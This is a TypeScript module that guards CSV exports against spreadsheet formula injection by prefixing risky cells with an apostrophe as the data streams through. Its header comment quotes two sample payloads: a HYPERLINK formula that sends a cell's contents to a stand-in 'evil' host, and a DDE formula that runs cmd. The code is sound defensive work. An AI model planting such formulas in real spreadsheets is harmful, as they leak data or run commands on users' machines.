/**
 * CSV for spreadsheets: a cell a patient wrote, like `=HYPERLINK("http://evil/?"&A1,"Click")`
 * or `@SUM(1)*cmd|' /C calc'!A0`, is a formula to Excel, LibreOffice and
 * Sheets. Following the OWASP rule, a cell whose text starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets
 * read as "this is text" and do not show.
 *
 * The CSV is rewritten as it streams (RFC 4180: fields separated by commas,
 * quoted fields may hold commas, quotes doubled, CR and LF), without parsing
 * it into rows, so a large export costs no memory. It reads bytes, not text:
 * every byte it acts on is ASCII, which no byte of a multi-byte UTF-8
 * character is, so a file in any ASCII-based encoding (UTF-8, Latin-1…) is
 * copied byte for byte but for the inserted apostrophes.
 */
import { Transform } from 'node:stream';

const QUOTE = 0x22;
const COMMA = 0x2c;
const LF = 0x0a;
const CR = 0x0d;
const APOSTROPHE = Buffer.from("'");
/** `=`, `+`, `-`, `@`, tab, CR. */
const TRIGGERS = new Set([0x3d, 0x2b, 0x2d, 0x40, 0x09, CR]);
/** The UTF-8 byte-order mark, which spreadsheets drop: `\uFEFF=1+1` is a formula to them. */
const BOM = [0xef, 0xbb, 0xbf];
/** JSON's white space, allowed before its first `{` or `[`. */
const JSON_SPACE = new Set([0x20, 0x09, LF, CR]);

type State =
  /** Before the document's first byte other than a byte-order mark (and, with passJson, white space). */
  | 'document-start'
  /** A JSON document (passJson): copied as it is. */
  | 'json'
  /** At the first character of a field. */
  | 'field-start'
  /** Just after the opening quote of a quoted field: the next character is the first of its text. */
  | 'quoted-start'
  | 'quoted'
  /** A quote inside a quoted field: either the closing quote or the first of a doubled pair. */
  | 'quoted-quote'
  | 'unquoted';

export class FormulaGuard extends Transform {
  private state: State = 'document-start';
  /** How many bytes of a byte-order mark the document has begun with so far. */
  private bomSeen = 0;

  /**
   * `passJson`: for a download whose type names neither JSON nor CSV (application/octet-stream,
   * none): a document that starts with `{` or `[` (after a byte-order mark and white space) is
   * JSON and passes unchanged; any other is guarded as CSV.
   */
  constructor(private readonly options: { passJson?: boolean } = {}) {
    super();
  }

  override _transform(chunk: Buffer, _encoding: BufferEncoding, done: (err?: Error | null, data?: Buffer) => void): void {
    done(null, this.guard(chunk));
  }

  private guard(bytes: Buffer): Buffer {
    if (this.state === 'json') return bytes;
    // Pieces of the input with an apostrophe between them where a cell starts with a trigger.
    const pieces: Buffer[] = [];
    let from = 0;
    for (let at = 0; at < bytes.length; at++) {
      const byte = bytes[at]!;
      if (this.state === 'document-start') {
        if (this.bomSeen < BOM.length && byte === BOM[this.bomSeen]) {
          this.bomSeen++;
          continue;
        }
        const partialBom = this.bomSeen > 0 && this.bomSeen < BOM.length;
        this.bomSeen = BOM.length; // a BOM only at the very start
        if (partialBom) {
          this.state = 'unquoted'; // not a BOM: the first cell began with those bytes
        } else {
          if (this.options.passJson && JSON_SPACE.has(byte)) continue;
          if (this.options.passJson && (byte === 0x7b || byte === 0x5b)) {
            this.state = 'json';
            break;
          }
          this.state = 'field-start';
        }
      }
      switch (this.state) {
        case 'field-start':
          if (byte === QUOTE) this.state = 'quoted-start';
          else if (byte === COMMA || byte === LF || byte === CR) this.state = 'field-start';
          else {
            if (TRIGGERS.has(byte)) from = this.apostropheBefore(bytes, at, from, pieces);
            this.state = 'unquoted';
          }
          break;
        case 'quoted-start':
          if (byte === QUOTE) this.state = 'quoted-quote';
          else {
            if (TRIGGERS.has(byte)) from = this.apostropheBefore(bytes, at, from, pieces);
            this.state = 'quoted';
          }
          break;
        case 'quoted':
          if (byte === QUOTE) this.state = 'quoted-quote';
          break;
        case 'quoted-quote':
          // `""` is a quote in the text; anything else ends the field.
          if (byte === QUOTE) this.state = 'quoted';
          else if (byte === COMMA || byte === LF || byte === CR) this.state = 'field-start';
          else this.state = 'unquoted';
          break;
        case 'unquoted':
          if (byte === COMMA || byte === LF || byte === CR) this.state = 'field-start';
          break;
      }
    }
    if (pieces.length === 0) return bytes;
    pieces.push(bytes.subarray(from));
    return Buffer.concat(pieces);
  }

  /** Adds the bytes since `from` and an apostrophe to `pieces`; the next piece starts at `at`. */
  private apostropheBefore(bytes: Buffer, at: number, from: number, pieces: Buffer[]): number {
    pieces.push(bytes.subarray(from, at), APOSTROPHE);
    return at;
  }
}
